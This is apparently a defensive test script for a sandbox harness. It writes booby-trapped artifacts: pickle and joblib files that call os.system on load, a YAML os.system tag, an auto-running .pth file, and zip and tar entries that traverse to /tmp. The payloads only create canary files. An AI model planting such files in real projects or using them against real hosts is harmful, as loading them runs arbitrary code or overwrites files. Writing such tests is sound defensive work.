# name: pickle_artifact
# class: artifact
# tries: files that run code when an unwary host loads them: pickles, numpy archives, YAML, bytecode, archives
# expected: the host never loads what it collects
# outcome: ok
# after: no-artifact-outside,no-leftover-process,no-host-file-content,artifact-names-safe
# oracle: host
import io, os, pickle, tarfile, zipfile
try: os.chdir(artifacts)
except NameError: pass
class Evil:
    def __reduce__(self): return os.system, ("touch /tmp/pwned /tmp/attack-canary/pwned",)
pickle.dump(Evil(), open("model.pkl", "wb"))
open("frame.joblib", "wb").write(pickle.dumps(Evil()))
open("config.yaml", "w").write("!!python/object/apply:os.system ['touch /tmp/pwned']\n")
open("x.pth", "w").write("import os; os.system('touch /tmp/pwned')\n")
with zipfile.ZipFile("archive.zip", "w") as archive: archive.writestr("../../../../tmp/pwned", "x")
with tarfile.open("archive.tar", "w") as archive:
    entry = tarfile.TarInfo("../../../../tmp/pwned"); entry.size = 1; archive.addfile(entry, io.BytesIO(b"x"))
print("INFO made")
